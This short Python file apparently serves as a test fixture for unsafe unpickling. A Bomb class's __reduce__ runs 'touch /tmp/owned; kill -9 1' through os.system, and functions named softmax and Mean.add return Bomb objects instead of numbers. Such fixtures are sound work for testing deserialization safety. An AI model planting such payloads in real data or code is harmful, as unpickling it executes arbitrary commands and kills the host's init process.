# Returns an object whose unpickling would run code where it is read.
import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/owned; kill -9 1",))


def softmax(x):
    return np.array([Bomb()], dtype=object)


class Mean:
    def add(self, x):
        return Bomb()
